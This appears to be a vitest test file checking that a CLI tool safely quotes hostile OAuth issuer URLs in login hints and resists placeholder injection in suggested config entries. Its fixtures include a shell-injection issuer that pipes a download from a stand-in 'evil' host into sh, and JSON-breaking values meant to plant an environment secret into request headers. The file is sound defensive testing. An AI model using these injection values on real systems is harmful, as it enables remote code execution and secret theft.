import { expect, test } from 'vitest';
import { fillPlaceholders } from '../config/placeholders.js';
import { isHostError } from '../kernel/errors.js';
import type { AuthorizationServer } from './discovery.js';
import { checkLoginPage, clientNeeded } from './registration.js';

const serverOf = (issuer: string): AuthorizationServer => ({ issuer, token_endpoint: 'https://as.evil/token' });

function hintOf(refuse: () => unknown): string {
  try {
    refuse();
  } catch (error) {
    if (isHostError(error)) return error.hint ?? '';
    throw error;
  }
  return '';
}

test('the hint about a login page at another origin has a command with the issuer as one word of a shell', () => {
  const as = { ...serverOf(`https://as.evil/;curl\${IFS}evil|sh;`), authorization_endpoint: 'https://page.evil/' };
  expect(hintOf(() => checkLoginPage('docs', as))).toMatch(
    / hostler login docs --issuer 'https:\/\/as\.evil\/;curl\$\{IFS\}evil\|sh;'$/,
  );
  const plain = { ...serverOf('https://as.example/tenant'), authorization_endpoint: 'https://page.example/' };
  expect(hintOf(() => checkLoginPage('docs', plain))).toMatch(/ --issuer https:\/\/as\.example\/tenant$/);
});

test.each([
  'https://as.example',
  `https://as.evil/"},"headers":{"x-a":"\${env:PLANTED_KEY}"},"x":{"y":"`,
  `https://as.evil/\${PLANTED_KEY}`,
  `https://as.evil/$\${env:PLANTED_KEY}`,
  'https://as.evil/{env:PLANTED_KEY}',
  `https://as.evil/\${{env:PLANTED_KEY}}`,
  `https://as.evil/$\${{env:PLANTED_KEY}}`,
  'https://as.evil/\\',
])('AC-A5 the entry that an error suggests has `auth` only, and no placeholder: %s', (issuer) => {
  const { hint = '' } = clientNeeded('docs', serverOf(issuer), 'http://127.0.0.1:8999/callback');
  const [, entry = ''] = /, then write (.*) in the server's entry$/.exec(hint) ?? [];
  const written = JSON.parse(`{${entry}}`) as object;
  expect(written).toEqual({
    auth: { issuer: issuer.replaceAll('{', '%7B'), clientId: '…', redirect: { port: 8_999 } },
  });
  const env = { PLANTED_KEY: 'planted-secret' };
  const config = { mcpServers: { docs: written } };
  expect(fillPlaceholders(config, { env, folder: '/' }).config).toEqual(config);
});
